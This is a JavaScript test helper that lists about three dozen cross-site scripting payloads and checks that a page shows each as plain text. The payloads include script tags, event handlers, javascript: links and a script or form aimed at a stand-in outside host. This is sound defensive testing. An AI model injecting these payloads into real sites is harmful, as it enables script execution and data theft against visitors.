// Texts that a user may write to run a script in another person's browser. Pages must show all of
// them as plain text.

import assert from 'node:assert/strict';

/** Sets a mark that `isUntouched` looks for. It is short, because names have a limit. */
const RUN = 'window.__pwned=1';

/** Attacks on a place that shows a text, by name. */
export const ATTACKS = {
    'a script': `<script>${RUN}</script>`,
    'a script in capitals, with a slash': `<ScRiPt/x>${RUN}</sCrIpT>`,
    'a script within a script': `<scr<script>ipt>${RUN}</script>`,
    'a script that closes what it is in': `</title></textarea></style></svg></script><script>${RUN}</script>`,
    'a script from another site': '<script src=//elsewhere.invalid/x.js></script>',
    'a script in an attribute': `" onfocus="${RUN}" autofocus="`,
    'a script in an attribute, other quotes': `' onfocus='${RUN}' autofocus='`,
    'a script in an attribute without quotes': `x onmouseover=${RUN} y=`,
    'a picture that fails': `<img src=x onerror=${RUN}>`,
    'a picture from another site': '<img src="http://elsewhere.invalid/x.png">',
    'a drawing': `<svg onload=${RUN}><script>${RUN}</script></svg>`,
    'a drawing that animates': `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    'the end of a drawing': `</text></g></svg><img src=x onerror=${RUN}>`,
    'a link that is a script': `<a href="javascript:${RUN}" autofocus>x</a>`,
    'an address that is a script': `javascript:${RUN}`,
    'an address that is a page': `data:text/html,<script>parent.__pwned=1</script>`,
    'a frame': `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    'an object': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    'a form': '<form action="http://elsewhere.invalid/"><input name=csrf autofocus></form>',
    'a form around ours': '</form><form action="http://elsewhere.invalid/" method="post">',
    'another base': '<base href="http://elsewhere.invalid/">',
    'another page after a second': '<meta http-equiv="refresh" content="0;url=http://elsewhere.invalid/">',
    'a style': '<style>@import "http://elsewhere.invalid/x.css"; body{display:none}</style>',
    'a style sheet': '<link rel=stylesheet href=http://elsewhere.invalid/x.css>',
    'a box that opens': `<details open ontoggle=${RUN}>x</details>`,
    'the end of a comment': `--><img src=x onerror=${RUN}><!--`,
    'the end of JSON': `"]}';${RUN};//`,
    'the end of JSON in an attribute': `&quot;]</div><img src=x onerror=${RUN}>`,
    'text that is already escaped': `&lt;img src=x onerror=${RUN}&gt;`,
    'text that is partly escaped': `&#60;img src=x onerror=${RUN}&#62;`,
    'a template': `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= ${RUN} %>`,
    'another way to write brackets': `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    'brackets of another width': `\u02c2img src=x onerror=${RUN}\u02c3`,
    'text from right to left': `\u202e>tpircs/<1=denwp__.wodniw>tpircs<\u202c`,
    'text with invisible characters': `\u200b<\u200bscript>${RUN}</script>\ufeff`,
    'a property of all objects': '__proto__',
};

/** All attacks. */
export const TEXTS = Object.values(ATTACKS);

/**
 * Fails if an attack ran, or became an element of the page. `elements` is a selector of the page's
 * own elements that are allowed. `address` is a pattern of the addresses that links, pictures and
 * frames may have.
 */
export async function isUntouched(page, where, { elements: own = 'none', address = '^[/?#]' } = {}) {
    // Give an attack time to run: pictures fail, boxes open, a field gets the focus.
    await page.waitForLoadState('load');
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))));
    const found = await page.evaluate(([own, address]) => {
        const foreign = 'main :is(script, style, img, iframe, object, embed, base, meta, link, animate), head base, head meta[http-equiv]';
        const elements = [...document.querySelectorAll(foreign)].filter((element) => !element.matches(own)).map((element) => element.outerHTML);
        const known = new RegExp(address);
        const handlers = [...document.querySelectorAll('*')].flatMap((element) =>
            [...element.attributes]
                .filter(({ name, value }) => /^on|^style$|^srcdoc$/i.test(name) || (/^(href|src|action)$/i.test(name) && !known.test(value)))
                .map(({ name, value }) => `${name}="${value}" of ${element.tagName}`),
        );
        return { pwned: window.__pwned, elements, handlers };
    }, [own, address]);
    assert.deepEqual(found, { pwned: undefined, elements: [], handlers: [] }, where);
}
